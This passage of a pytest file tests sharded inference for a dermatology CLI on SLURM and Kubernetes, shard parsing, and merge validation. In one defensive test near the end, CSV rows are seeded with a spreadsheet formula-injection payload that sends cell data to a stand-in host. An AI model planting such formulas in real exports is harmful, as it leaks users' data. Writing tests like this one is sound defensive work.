"""`infer --shard auto` on cluster schedulers: the SLURM and Kubernetes examples run end to end.

examples/slurm/infer-array.sh runs as written, with a stand-in `sbatch` that runs each job at
once (each array task with the SLURM_ARRAY_* variables SLURM sets); the Indexed Job of
examples/kubernetes/infer-job.yaml runs its container command once per index with the Job's
env and JOB_COMPLETION_INDEX, then the merge Job's command. Both must give what one unsharded
run gives. `shard_from_env` is checked on hand-worked cases, and `--shard auto` without a
scheduler stops with one line. Merge joins shards of an --ids list, and refuses rows of images
that are not there and rows edited since infer wrote them.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from PIL import Image
from test_infer import models  # noqa: F401  (the tiny joint/seg/cls model folders)
from typer.testing import CliRunner

from dermtool.cli import app
from dermtool.errors import InputError
from dermtool.shards import SHARDS_MAX, check_prediction_row, parse_shard, shard_from_env
from dermtool.synthetic import make_lesion

yaml = pytest.importorskip("yaml")

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES = ROOT / "examples"
SCHEDULER_VARS = ("SLURM_ARRAY_TASK_ID", "SLURM_ARRAY_TASK_MIN", "SLURM_ARRAY_TASK_COUNT",
                  "SLURM_ARRAY_TASK_STEP", "JOB_COMPLETION_INDEX", "DERMTOOL_SHARDS")
runner = CliRunner()

#: sbatch as a test double: logs its arguments, runs the job at once instead of queueing it
#: (an array task by task, with the variables SLURM sets), prints a job id as --parsable does.
FAKE_SBATCH = r'''#!{python}
import os, re, subprocess, sys
args = sys.argv[1:]
log = open(os.environ["SBATCH_LOG"], "a")
log.write("sbatch " + " ".join(args) + "\n")
if "--wrap" in args:
    code = subprocess.run(["bash", "-c", args[args.index("--wrap") + 1]], stdout=log, stderr=log).returncode
    log.write(f"merge exit {code}\n")
    print("200")
    sys.exit(0)
first = next(i for i, a in enumerate(args) if not a.startswith("--"))
script, script_args = args[first], args[first + 1:]
lo, hi = map(int, re.search(r"^#SBATCH --array=(\d+)-(\d+)$", open(script).read(), re.M).groups())
for task in range(lo, hi + 1):
    env = dict(os.environ, SLURM_ARRAY_JOB_ID="100", SLURM_ARRAY_TASK_ID=str(task), SLURM_ARRAY_TASK_MIN=str(lo),
               SLURM_ARRAY_TASK_MAX=str(hi), SLURM_ARRAY_TASK_COUNT=str(hi - lo + 1))
    code = subprocess.run(["bash", script, *script_args], env=env, stdout=log, stderr=log).returncode
    log.write(f"task {task} exit {code}\n")
print("100")
'''


def _executable(path: Path, text: str) -> None:
    path.write_text(text)
    path.chmod(path.stat().st_mode | stat.S_IXUSR)


@pytest.fixture(scope="module")
def reference(models, tmp_path_factory) -> dict:  # noqa: F811
    """Six synthetic images and one unsharded infer run over them."""
    root = tmp_path_factory.mktemp("schedulers")
    images = root / "images"
    images.mkdir()
    for k in range(6):
        rgb = make_lesion(60 + 9 * k, 90 - 5 * k, np.random.default_rng(40 + k), cls=k % 3)[0]
        Image.fromarray(rgb).save(images / f"ISIC_{k:07d}.png")
    out = root / "one_run"
    result = runner.invoke(app, ["infer", str(images), "--out", str(out), "--model", str(models["joint"])])
    assert result.exit_code == 0, result.output
    return {"images": images, "out": out}


@pytest.fixture
def shell_env(tmp_path) -> dict:
    """An environment whose `dermtool` (and `sbatch`) are this checkout's, with no scheduler set."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    _executable(bin_dir / "dermtool", f'#!/bin/sh\nexec "{sys.executable}" -m dermtool "$@"\n')
    _executable(bin_dir / "sbatch", FAKE_SBATCH.replace("{python}", sys.executable))
    env = {k: v for k, v in os.environ.items() if k not in SCHEDULER_VARS}
    env["PATH"] = f"{bin_dir}{os.pathsep}{env.get('PATH', '')}"
    env["PYTHONPATH"] = os.pathsep.join(p for p in (str(ROOT), env.get("PYTHONPATH")) if p)
    env["SBATCH_LOG"] = str(tmp_path / "sbatch.log")
    return env


def _rows(path: Path) -> list[list[str]]:
    with open(path, newline="") as fh:
        return list(csv.reader(fh))


def assert_same_as_one_run(out: Path, reference: dict, parts: int) -> None:
    for k in range(1, parts + 1):
        assert (out / f"predictions.part-{k}-of-{parts}.csv").is_file()
    merged, one = _rows(out / "predictions.csv"), _rows(reference["out"] / "predictions.csv")
    assert merged == one and len(merged) == 7  # header and the six images, in id order
    for row in one[1:]:
        name = f"{row[0]}_segmentation.png"
        np.testing.assert_array_equal(np.asarray(Image.open(out / name)), np.asarray(Image.open(reference["out"] / name)))


def test_slurm_array_example_then_merge_equals_one_run(models, reference, shell_env, tmp_path):  # noqa: F811
    script = tmp_path / "infer-array.sh"
    text = (EXAMPLES / "slurm" / "infer-array.sh").read_text()
    assert "#SBATCH --array=0-3\n" in text
    # two tasks numbered 3 and 4: --shard auto must count from SLURM_ARRAY_TASK_MIN
    script.write_text(text.replace("#SBATCH --array=0-3\n", "#SBATCH --array=3-4\n"))
    out = tmp_path / "out"
    proc = subprocess.run(["bash", str(script), str(reference["images"]), str(out), "--model", str(models["joint"])],
                          env=shell_env, cwd=tmp_path, capture_output=True, text=True, timeout=600)
    log = (tmp_path / "sbatch.log").read_text()
    assert proc.returncode == 0, proc.stderr + log
    assert "submitted job array 100" in proc.stdout and "job 200" in proc.stdout
    assert "task 3 exit 0" in log and "task 4 exit 0" in log and "merge exit 0" in log, log
    assert "--dependency=afterany:100" in log  # the merge waits for the whole array
    assert "shard 1/2 (SLURM_ARRAY_TASK_ID=3" in log and "shard 2/2 (SLURM_ARRAY_TASK_ID=4" in log
    assert_same_as_one_run(out, reference, 2)


def test_kubernetes_indexed_job_example_then_merge_equals_one_run(models, reference, shell_env, tmp_path):  # noqa: F811
    docs = list(yaml.safe_load_all((EXAMPLES / "kubernetes" / "infer-job.yaml").read_text()))
    claim = next(d for d in docs if d["kind"] == "PersistentVolumeClaim")
    infer_job = next(d for d in docs if d["kind"] == "Job" and d["spec"].get("completionMode") == "Indexed")
    merge_job = next(d for d in docs if d["kind"] == "Job" and d is not infer_job)
    assert claim["spec"]["accessModes"] == ["ReadWriteMany"]
    parts = infer_job["spec"]["completions"]
    container = infer_job["spec"]["template"]["spec"]["containers"][0]
    job_env = {e["name"]: e["value"] for e in container["env"]}
    assert int(job_env["DERMTOOL_SHARDS"]) == parts == 4
    for job in (infer_job, merge_job):
        pod = job["spec"]["template"]["spec"]
        assert pod["volumes"][0]["persistentVolumeClaim"]["claimName"] == claim["metadata"]["name"]
        assert pod["containers"][0]["volumeMounts"][0]["mountPath"] == "/data"

    data = tmp_path / "data"  # the volume, mounted at /data in every pod
    shutil.copytree(reference["images"], data / "images")

    def command(c: dict) -> list[str]:
        return [part.replace("/data", str(data)) for part in c["command"] + c.get("args", [])]

    # run with 2 parts, not the example's 4: the same code path at half the model loads
    job_env.update(DERMTOOL_SHARDS="2", INFER_OPTIONS=f"--model {models['joint']}")
    for index in range(2):
        proc = subprocess.run(command(container), env={**shell_env, **job_env, "JOB_COMPLETION_INDEX": str(index)},
                              capture_output=True, text=True, timeout=600)
        assert proc.returncode == 0, proc.stderr
        assert f"shard {index + 1}/2 (JOB_COMPLETION_INDEX={index} of DERMTOOL_SHARDS=2)" in proc.stderr
    proc = subprocess.run(command(merge_job["spec"]["template"]["spec"]["containers"][0]), env=shell_env,
                          capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stderr
    assert_same_as_one_run(data / "out", reference, 2)


@pytest.mark.parametrize("env, expected", [
    ({"SLURM_ARRAY_TASK_ID": "0", "SLURM_ARRAY_TASK_MIN": "0", "SLURM_ARRAY_TASK_COUNT": "4"}, (1, 4)),
    ({"SLURM_ARRAY_TASK_ID": "7", "SLURM_ARRAY_TASK_MIN": "5", "SLURM_ARRAY_TASK_COUNT": "3"}, (3, 3)),
    # --array=10-16:3 is tasks 10, 13, 16: task 13 is the second of three
    ({"SLURM_ARRAY_TASK_ID": "13", "SLURM_ARRAY_TASK_MIN": "10", "SLURM_ARRAY_TASK_COUNT": "3",
      "SLURM_ARRAY_TASK_STEP": "3"}, (2, 3)),
    ({"JOB_COMPLETION_INDEX": "0", "DERMTOOL_SHARDS": "5"}, (1, 5)),
    ({"JOB_COMPLETION_INDEX": "4", "DERMTOOL_SHARDS": "5"}, (5, 5)),
])
def test_shard_from_env(env, expected):
    assert shard_from_env(env)[0] == expected


@pytest.mark.parametrize("env, words", [
    ({}, "neither SLURM_ARRAY_TASK_ID nor JOB_COMPLETION_INDEX is set"),
    ({"JOB_COMPLETION_INDEX": "1"}, "DERMTOOL_SHARDS is not"),
    ({"JOB_COMPLETION_INDEX": "5", "DERMTOOL_SHARDS": "5"}, "not part 1..5"),
    # --array=1,5,9: three tasks, but 9 - 1 is no position among three
    ({"SLURM_ARRAY_TASK_ID": "9", "SLURM_ARRAY_TASK_MIN": "1", "SLURM_ARRAY_TASK_COUNT": "3"}, "not part 1..3"),
    # SLURM sets _MIN and _COUNT in every array task: one missing is named as not set
    ({"SLURM_ARRAY_TASK_ID": "2", "SLURM_ARRAY_TASK_MIN": "", "SLURM_ARRAY_TASK_COUNT": "3"},
     "SLURM_ARRAY_TASK_ID is set but SLURM_ARRAY_TASK_MIN is not"),
    ({"SLURM_ARRAY_TASK_ID": "2", "SLURM_ARRAY_TASK_MIN": "1"}, "but SLURM_ARRAY_TASK_COUNT is not"),
    # int() takes these; no scheduler writes them
    ({"SLURM_ARRAY_TASK_ID": "1_0", "SLURM_ARRAY_TASK_MIN": "0", "SLURM_ARRAY_TASK_COUNT": "20"},
     "SLURM_ARRAY_TASK_ID='1_0' is not a whole number"),
    ({"JOB_COMPLETION_INDEX": "\u0663", "DERMTOOL_SHARDS": "5"}, "JOB_COMPLETION_INDEX='\u0663' is not a whole number"),
    ({"JOB_COMPLETION_INDEX": " 1", "DERMTOOL_SHARDS": "5"}, "JOB_COMPLETION_INDEX=' 1' is not a whole number"),
    ({"JOB_COMPLETION_INDEX": "0", "DERMTOOL_SHARDS": str(SHARDS_MAX + 1)}, f"more parts than the {SHARDS_MAX}"),
    ({"SLURM_ARRAY_TASK_ID": "0", "SLURM_ARRAY_TASK_MIN": "0", "JOB_COMPLETION_INDEX": "0",
      "SLURM_ARRAY_TASK_COUNT": "2", "DERMTOOL_SHARDS": "2"}, "both a SLURM array"),
])
def test_shard_from_env_refuses(env, words):
    with pytest.raises(InputError, match=words.replace(".", r"\.")):
        shard_from_env(env)


def test_a_long_environment_value_is_not_echoed_whole():
    for name in ("SLURM_ARRAY_TASK_ID", "SLURM_ARRAY_TASK_COUNT"):
        env = {"SLURM_ARRAY_TASK_ID": "1", "SLURM_ARRAY_TASK_MIN": "0", "SLURM_ARRAY_TASK_COUNT": "2"}
        for value in ("7" * 5000, "x" * 5000):  # digits (int() of 5000 of them raises) and junk
            with pytest.raises(InputError) as caught:
                shard_from_env({**env, name: value})
            message = str(caught.value)
            assert f"{name}=" in message and value[:40] in message and value[:41] not in message, message
            assert "(5000 characters)" in message and len(message) < 400


@pytest.mark.parametrize("value, words", [
    ("1_0/20", "must look like K/N"),  # int("1_0") is 10
    ("\u0661/\u0662", "must look like K/N"),  # Arabic-Indic digits: int() reads them
    ("1/2 ", "must look like K/N"),
    ("+1/2", "must look like K/N"),
    ("1/99999999999999999999999", f"N (the number of parts) must be at most {SHARDS_MAX}"),
    (f"1/{SHARDS_MAX + 1}", f"must be at most {SHARDS_MAX}"),
    ("1/0", "N (the number of parts) must be 1 or more"),
    ("0/2", "K must be between 1 and N"),
    ("3/2", "K must be between 1 and N"),
    ("1/" + "9" * 5000, "(5002 characters)"),
])
def test_parse_shard_takes_only_ascii_digits_and_n_up_to_the_maximum(value, words):
    with pytest.raises(InputError, match=words.replace("(", r"\(").replace(")", r"\)")) as caught:
        parse_shard(value)
    assert len(str(caught.value)) < 200


def test_parse_shard_reads_what_a_user_writes():
    assert parse_shard("2/4") == (2, 4)
    assert parse_shard("02/04") == (2, 4)
    assert parse_shard(f"{SHARDS_MAX}/{SHARDS_MAX}") == (SHARDS_MAX, SHARDS_MAX)


def test_junk_shard_is_one_line_before_anything_is_written(models, reference, tmp_path, monkeypatch):  # noqa: F811
    out = tmp_path / "out"
    result = runner.invoke(app, ["infer", str(reference["images"]), "--out", str(out), "--model", str(models["joint"]),
                                 "--shard", "1_0/20"])
    assert result.exit_code == 2 and len(result.output.strip().splitlines()) == 1, result.output
    assert "must look like K/N" in result.output and not out.exists()
    for name in SCHEDULER_VARS:
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("SLURM_ARRAY_TASK_ID", "1_0")
    monkeypatch.setenv("SLURM_ARRAY_TASK_MIN", "0")
    monkeypatch.setenv("SLURM_ARRAY_TASK_COUNT", "2_0")
    result = runner.invoke(app, ["infer", str(reference["images"]), "--out", str(out), "--model", str(models["joint"]),
                                 "--shard", "auto"])
    assert result.exit_code == 2 and "SLURM_ARRAY_TASK_ID='1_0' is not a whole number" in result.output
    assert not out.exists()
    help_text = re.sub(r"[\s│╭╮╰╯─]", "", runner.invoke(app, ["infer", "--help"]).output)  # wrapping aside
    assert f"N:1to{SHARDS_MAX}" in help_text


def test_shard_auto_without_a_scheduler_exits_2_with_one_line(models, reference, tmp_path, monkeypatch):  # noqa: F811
    for name in SCHEDULER_VARS:
        monkeypatch.delenv(name, raising=False)
    result = runner.invoke(app, ["infer", str(reference["images"]), "--out", str(tmp_path / "out"),
                                 "--model", str(models["joint"]), "--shard", "auto"])
    assert result.exit_code == 2
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and "--shard auto" in lines[0] and "give --shard K/N" in lines[0], result.output
    assert not (tmp_path / "out").exists()


def test_a_lone_array_task_beside_the_parts_of_a_sharded_run_is_refused(models, reference, tmp_path, monkeypatch):  # noqa: F811
    """`sbatch --array=2` alone is an array of one task, part 1 of 1: it redid the whole folder
    into OUT beside the parts, and the merge still failed."""
    out = tmp_path / "out"
    result = runner.invoke(app, ["infer", str(reference["images"]), "--out", str(out), "--model", str(models["joint"]),
                                 "--shard", "1/4"])
    assert result.exit_code == 0, result.output
    for name in SCHEDULER_VARS:
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("SLURM_ARRAY_TASK_ID", "2")
    monkeypatch.setenv("SLURM_ARRAY_TASK_MIN", "2")
    monkeypatch.setenv("SLURM_ARRAY_TASK_COUNT", "1")
    before = sorted(p.name for p in out.iterdir())
    result = runner.invoke(app, ["infer", str(reference["images"]), "--out", str(out), "--model", str(models["joint"]),
                                 "--shard", "auto", "--resume"])
    assert result.exit_code == 2 and "resubmit the whole array" in " ".join(result.output.split())
    assert sorted(p.name for p in out.iterdir()) == before


def test_sigterm_is_ctrl_c_in_the_command_and_the_default_stop_in_a_forked_worker(monkeypatch):
    """A scheduler stops a job with SIGTERM: the command cleans up as after Ctrl-C, while a
    forked batch worker still dies at once (its pool stops it with SIGTERM)."""
    import signal
    import time

    import dermtool.cli as cli

    previous = signal.getsignal(signal.SIGTERM)
    monkeypatch.setattr(cli, "_MAIN_PID", os.getpid())
    signal.signal(signal.SIGTERM, cli._terminated)
    try:
        pid = os.fork()
        if pid == 0:  # the worker: sleeps until stopped
            time.sleep(30)
            os._exit(0)
        time.sleep(0.3)
        os.kill(pid, signal.SIGTERM)
        _, status = os.waitpid(pid, 0)
        assert os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGTERM
        with pytest.raises(KeyboardInterrupt):
            os.kill(os.getpid(), signal.SIGTERM)
            time.sleep(1)
    finally:
        signal.signal(signal.SIGTERM, previous)


# --- merge: shards of an --ids list; rows of images not there; rows edited since infer -------


def _infer_ok(*args) -> None:
    result = runner.invoke(app, ["infer", *map(str, args)])
    assert result.exit_code == 0, result.output


def _merge_refused(out: Path, *words: str) -> str:
    result = runner.invoke(app, ["merge", str(out)])
    assert result.exit_code == 2, result.output
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error:") and "Traceback" not in result.output, result.output
    for word in words:
        assert word in lines[0], lines[0]
    assert not (out / "predictions.csv").exists()
    return lines[0]


def _same_predictions(merged: Path, one: Path) -> None:
    """The rows of one run, up to float noise of other batches in the probabilities."""
    got, want = _rows(merged), _rows(one)
    assert [r[:1] + r[4:] for r in got] == [r[:1] + r[4:] for r in want]
    np.testing.assert_allclose(np.array([r[1:4] for r in got[1:]], float),
                               np.array([r[1:4] for r in want[1:]], float), atol=1e-5)


@pytest.fixture(scope="module")
def listed(models, reference, tmp_path_factory) -> dict:  # noqa: F811
    """Four of the six images as an --ids list, inferred whole and in two shards (not merged)."""
    root = tmp_path_factory.mktemp("listed")
    ids = sorted(p.stem for p in reference["images"].iterdir())[1:5]
    (root / "ids.txt").write_text("# four of the six\n" + "\n".join(reversed(ids)) + "\n")
    common = ["--model", models["joint"], "--ids", root / "ids.txt"]
    _infer_ok(reference["images"], "--out", root / "one", *common)
    for k in (1, 2):
        _infer_ok(reference["images"], "--out", root / "shards", *common, "--shard", f"{k}/2")
    parts = [_rows(root / "shards" / f"predictions.part-{k}-of-2.csv")[1:] for k in (1, 2)]
    assert parts[0] and parts[1]  # both shards hold some: the check runs across parts
    return {"ids": ids, "one": root / "one", "shards": root / "shards"}


@pytest.fixture(scope="module")
def plain(models, reference, tmp_path_factory) -> Path:  # noqa: F811
    """The six images inferred in two shards (not merged)."""
    out = tmp_path_factory.mktemp("plain") / "out"
    for k in (1, 2):
        _infer_ok(reference["images"], "--out", out, "--model", models["joint"], "--shard", f"{k}/2")
    return out


def test_shards_of_an_id_list_merge_to_what_one_run_of_the_list_gives(listed, tmp_path):
    """--ids with --shard was always refused: merge took every image of the folder not listed
    for one that no part holds."""
    out = Path(shutil.copytree(listed["shards"], tmp_path / "out"))
    assert json.loads((out / "infer.shard1of2.json").read_text())["ids"] == listed["ids"]
    result = runner.invoke(app, ["merge", str(out)])
    assert result.exit_code == 0, result.output
    assert "every one of the 4 ids of the shards' --ids list has one" in " ".join(result.output.split())
    _same_predictions(out / "predictions.csv", listed["one"] / "predictions.csv")


def test_merge_checks_an_id_list_even_when_the_images_folder_is_gone(listed, tmp_path):
    out = Path(shutil.copytree(listed["shards"], tmp_path / "out"))
    for k in (1, 2):  # as if merged on a machine that does not see the images
        record = out / f"infer.shard{k}of2.json"
        record.write_text(json.dumps({**json.loads(record.read_text()), "images": str(tmp_path / "gone")}))
    part = out / "predictions.part-2-of-2.csv"
    rows = _rows(part)
    with open(part, "w", newline="") as fh:
        csv.writer(fh).writerows(rows[:-1])  # the part cut short: its last id has no row
    _merge_refused(out, "1 image(s) are in no part", rows[-1][0], "--ids LIST", "--shard 2/2 --resume")
    with open(part, "w", newline="") as fh:
        csv.writer(fh).writerows(rows)
    result = runner.invoke(app, ["merge", str(out)])
    assert result.exit_code == 0, result.output
    assert "every one of the 4 ids" in " ".join(result.output.split())


@pytest.mark.parametrize("other, words", [
    ("three", ["an --ids list of 3 id(s)", "an --ids list of 4 id(s)"]),
    ("none", ["every image of the folder (no --ids)"]),
])
def test_merge_refuses_shards_of_different_id_lists(listed, tmp_path, other, words):
    out = Path(shutil.copytree(listed["shards"], tmp_path / "out"))
    record = out / "infer.shard2of2.json"
    ids = listed["ids"][:3] if other == "three" else None
    record.write_text(json.dumps({**json.loads(record.read_text()), "ids": ids}))
    _merge_refused(out, str(record), "infer.shard1of2.json", *words)


def test_merge_refuses_a_damaged_id_list_in_a_record(listed, tmp_path):
    out = Path(shutil.copytree(listed["shards"], tmp_path / "out"))
    record = out / "infer.shard1of2.json"
    record.write_text(json.dumps({**json.loads(record.read_text()), "ids": "ISIC_0000001"}))
    _merge_refused(out, str(record), "its ids are not a list of image ids")


def _append_row_of(part: Path, image_id: str) -> None:
    """A row as infer would write it (sums to 1, labelled by the argmax), of another image."""
    rows = _rows(part)
    with open(part, "a", newline="") as fh:
        csv.writer(fh).writerow([image_id, *rows[1][1:]])


def test_a_file_added_since_with_a_name_that_is_not_utf8_is_one_line(plain, reference, tmp_path):
    """shard_of encoded the id as UTF-8 for merge's rerun hint: a traceback."""
    out = Path(shutil.copytree(plain, tmp_path / "out"))
    images = Path(shutil.copytree(reference["images"], tmp_path / "images"))
    with open(os.fsencode(images) + b"/caf\xe9.jpg", "wb") as fh:
        fh.write(next(images.iterdir()).read_bytes())
    result = runner.invoke(app, ["merge", str(out), "--images", str(images)])
    assert result.exit_code == 2 and "Traceback" not in result.output, result.output
    assert "1 image(s) are in no part (caf" in " ".join(result.output.split())


def test_the_rerun_hint_names_the_shard_of_the_files_own_name(plain, reference, tmp_path):
    """A file added since under an NFD name ('Müller' as macOS writes it): infer would give it
    shard 2 (the hash of its own name), but merge named shard 1, the hash of the NFC form."""
    import unicodedata

    from dermtool.shards import shard_of

    out = Path(shutil.copytree(plain, tmp_path / "out"))
    images = Path(shutil.copytree(reference["images"], tmp_path / "images"))
    name = unicodedata.normalize("NFD", "Müller")
    assert shard_of(name, 2) != shard_of(unicodedata.normalize("NFC", name), 2)
    shutil.copy(next(images.iterdir()), images / f"{name}.png")
    result = runner.invoke(app, ["merge", str(out), "--images", str(images)])
    said = " ".join(result.output.split())
    assert result.exit_code == 2 and f"1 image(s) are in no part ({name})" in said, result.output
    assert f"with --shard {shard_of(name, 2)}/2 --resume, then" in said


def test_merge_removes_an_earlier_whole_runs_record_that_no_longer_describes_the_csv(plain, reference, tmp_path):
    """A whole run, then shards into the same folder, then merge: the whole run's infer.json
    stayed, and report named its model and calibrate undid its temperature for the shards' CSV."""
    from dermtool.review import read_run

    out = Path(shutil.copytree(plain, tmp_path / "out"))
    whole = json.loads((reference["out"] / "infer.json").read_text())
    (out / "infer.json").write_text(json.dumps({**whole, "model": "/elsewhere/other-model", "temperature": 0.25}))
    result = runner.invoke(app, ["merge", str(out)])
    assert result.exit_code == 0, result.output
    assert "removed" in result.output and not (out / "infer.json").exists()
    assert read_run(out)["model"] == json.loads((out / "infer.shard1of2.json").read_text())["model"]


def test_a_whole_run_resume_into_a_merged_folder_is_refused(plain, reference, models, tmp_path):  # noqa: F811
    """infer --resume (no --shard) into a merged folder trusted every merged row, did not redo a
    changed image, and wrote an infer.json naming its own model and settings over the rows."""
    out = Path(shutil.copytree(plain, tmp_path / "out"))
    assert runner.invoke(app, ["merge", str(out)]).exit_code == 0
    before = (out / "predictions.csv").read_bytes()
    result = runner.invoke(app, ["infer", str(reference["images"]), "--out", str(out), "--model",
                                 str(models["seg"]), "--resume", "--tta", "4"])
    said = " ".join(result.output.split())
    assert result.exit_code == 2 and "holds the records of a sharded run (infer.shard1of2.json, ...)" in said, said
    assert not (out / "infer.json").exists() and (out / "predictions.csv").read_bytes() == before


def test_the_rerun_hint_without_the_folder_names_the_shard_of_the_listed_name(tmp_path):
    """Without the images folder, an --ids list written in NFD got the shard of the NFC form."""
    import unicodedata

    from dermtool.errors import InputError
    from dermtool.shards import _check_complete, shard_of

    name = unicodedata.normalize("NFD", "Müller")
    with pytest.raises(InputError, match=f"with --shard {shard_of(name, 2)}/2 --resume"):
        _check_complete(None, [name], {}, {}, {}, tmp_path, 2)


@pytest.mark.parametrize("edit, words", [({"melanoma_threshold": "x"}, "melanoma_threshold must be a number"),
                                         ({"temperature": "hot"}, "temperature must be a positive number"),
                                         # each of these was a TypeError or AttributeError traceback
                                         ({"postprocess": "x"}, "postprocess is 'x', not what infer writes"),
                                         ({"model_sha1": 5}, "model_sha1 is '5'"),
                                         ({"failed": 5}, "failed is '5'"), ({"failed": [1]}, "failed is '[1]'"),
                                         ({"failed": "abc"}, "failed is 'abc'"), ({"images": [1]}, "images is '[1]'"),
                                         ({"done": 1e300}, "done is '1e+300'"),
                                         ({"earlier_sessions": {"done": "x"}}, "earlier_sessions.done is 'x'")])
def test_merge_refuses_a_record_edited_to_values_infer_never_writes(plain, tmp_path, edit, words):
    """A threshold of "x" met the row checks as a TypeError traceback."""
    out = Path(shutil.copytree(plain, tmp_path / "out"))
    record = json.loads((out / "infer.shard1of2.json").read_text())
    record.update(edit)
    (out / "infer.shard1of2.json").write_text(json.dumps(record))
    _merge_refused(out, "infer.shard1of2.json", words)


def test_merge_refuses_a_row_of_an_image_not_in_the_folder(plain, tmp_path):
    out = Path(shutil.copytree(plain, tmp_path / "out"))
    _append_row_of(out / "predictions.part-2-of-2.csv", "ISIC_9999999")
    _merge_refused(out, str(out / "predictions.part-2-of-2.csv"), "1 row(s) are of images not in", "ISIC_9999999")


def test_merge_refuses_a_row_of_an_image_not_on_the_id_list(listed, reference, tmp_path):
    out = Path(shutil.copytree(listed["shards"], tmp_path / "out"))
    unlisted = sorted(p.stem for p in reference["images"].iterdir())[0]  # in the folder, not on the list
    assert unlisted not in listed["ids"]
    _append_row_of(out / "predictions.part-1-of-2.csv", unlisted)
    _merge_refused(out, str(out / "predictions.part-1-of-2.csv"), "not on the shards' --ids list", unlisted)


@pytest.mark.parametrize("edit, words", [
    ("sum", ["row 2", "has probabilities that sum to", "not 1"]),
    ("label", ["row 2", "has the label nevus, but its probabilities make it melanoma", "the argmax"]),
])
def test_merge_refuses_a_row_edited_since_infer_wrote_it(plain, tmp_path, edit, words):
    out = Path(shutil.copytree(plain, tmp_path / "out"))
    part = out / "predictions.part-1-of-2.csv"
    rows = _rows(part)
    assert rows[1][4] == "melanoma" and float(rows[1][3]) < float(rows[1][1]) - 0.01  # see the reference run
    if edit == "sum":
        rows[1][1] = "0.900000"  # still a probability, still the argmax: only the sum tells
    else:
        rows[1][4] = "nevus"  # a class name, but not the decision
    with open(part, "w", newline="") as fh:
        csv.writer(fh).writerows(rows)
    _merge_refused(out, str(part), rows[1][0], *words)


def _threshold_between(reference: dict) -> float:
    """A melanoma threshold that labels some of the six images other than their argmax."""
    p = sorted(float(r[1]) for r in _rows(reference["out"] / "predictions.csv")[1:])
    return round((p[2] + p[3]) / 2, 6)


@pytest.mark.parametrize("task, options", [
    ("joint", []),
    ("joint", ["--melanoma-threshold", "between"]),
    ("joint", ["--tta", "4"]),
    ("cls", []),
    ("seg", []),  # no class columns at all
])
def test_what_infer_writes_merges(models, reference, tmp_path, task, options):  # noqa: F811
    options = [str(_threshold_between(reference)) if o == "between" else o for o in options]
    common = ["--model", models[task], *options]
    _infer_ok(reference["images"], "--out", tmp_path / "one", *common)
    for k in (1, 2):
        _infer_ok(reference["images"], "--out", tmp_path / "out", *common, "--shard", f"{k}/2")
    result = runner.invoke(app, ["merge", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    merged = _rows(tmp_path / "out" / "predictions.csv")
    assert len(merged) == 7
    if task == "seg":
        assert merged == _rows(tmp_path / "one" / "predictions.csv") and merged[0] == ["image_id"]
    else:
        _same_predictions(tmp_path / "out" / "predictions.csv", tmp_path / "one" / "predictions.csv")
    if "--melanoma-threshold" in options:  # the labels are the threshold's, which the argmax would refuse
        names = merged[0][1:4]
        assert any(r[4] != names[int(np.argmax([float(v) for v in r[1:4]]))] for r in merged[1:])


HEADER = ["image_id", "melanoma", "seborrheic_keratosis", "nevus", "label"]
KERAS = {"engine": "keras", "temperature": 1.0, "melanoma_threshold": None}
#: a LiteRT run of an int8 export at temperature 1: its softmax moves in steps of 1/256
LITERT = {"engine": "litert", "temperature": 1.0, "melanoma_threshold": None}


@pytest.mark.parametrize("row, run", [
    ("0.333333,0.333333,0.333333,melanoma", KERAS),  # rounded down three times: sums to 0.999999
    ("0.333333,0.333333,0.333333,nevus", KERAS),  # a tie: any of the three may have been ahead
    ("0.333334,0.333333,0.333333,melanoma", KERAS),
    ("0.019531,0.480469,0.503906,nevus", LITERT),  # measured on the bundled export: sums to 1 + 1/256
    ("0.019531,0.480469,0.503906,nevus", {}),  # no record: nothing says the engine was not LiteRT
    ("0.300000,0.200000,0.500000,nevus", {**KERAS, "melanoma_threshold": 0.3}),  # p may have been 0.2999996
    ("0.300000,0.200000,0.500000,melanoma", {**KERAS, "melanoma_threshold": 0.3}),
    ("0.300000,0.200000,0.500000,melanoma", {"engine": "keras"}),  # an older record: the label is not checked
])
def test_rows_as_infer_writes_them_pass(row, run):
    check_prediction_row(Path("p.csv"), 2, ["a", *row.split(",")], HEADER, run)


@pytest.mark.parametrize("row, run, words", [
    ("0.019531,0.480469,0.503906,nevus", KERAS, "sum to 1.003906, not 1"),
    ("0.019531,0.480469,0.503906,nevus", {**LITERT, "temperature": 0.7}, "sum to 1.003906"),  # renormalised
    ("0.100000,0.100000,0.900000,nevus", LITERT, "sum to 1.100000"),
    ("0.333335,0.333333,0.333332,nevus", KERAS, "has the label nevus, but its probabilities make it melanoma"),
    ("0.300002,0.200000,0.499998,nevus", {**KERAS, "melanoma_threshold": 0.3},
     "make it melanoma (melanoma from p = 0.3"),
    ("0.299998,0.200000,0.500002,melanoma", {**KERAS, "melanoma_threshold": 0.3}, "make it nevus"),
])
def test_rows_edited_since_infer_are_refused_naming_file_and_row(row, run, words):
    with pytest.raises(InputError) as caught:
        check_prediction_row(Path("p.csv"), 2, ["a", *row.split(",")], HEADER, run)
    assert str(caught.value).startswith("p.csv: row 2 (a) has") and words in str(caught.value), str(caught.value)


def test_merge_refuses_a_part_with_columns_infer_does_not_write(plain, tmp_path):
    # a column added by hand was copied into predictions.csv unchecked: a spreadsheet formula on
    # every row, or another order than the ISIC scorer reads
    out = Path(shutil.copytree(plain, tmp_path / "out"))
    for k in (1, 2):
        part = out / f"predictions.part-{k}-of-2.csv"
        rows = _rows(part)
        with open(part, "w", newline="") as fh:
            csv.writer(fh).writerows([rows[0] + ["note"]] + [r + ['=HYPERLINK("http://x/?"&A1)'] for r in rows[1:]])
    _merge_refused(out, "predictions.part-1-of-2.csv", "are not the ones infer writes")


def test_merge_refuses_shards_run_on_different_engine_files(plain, tmp_path):
    # two exports carrying one model's sha1 but other files merged as one run
    out = Path(shutil.copytree(plain, tmp_path / "out"))
    record = json.loads((out / "infer.shard2of2.json").read_text())
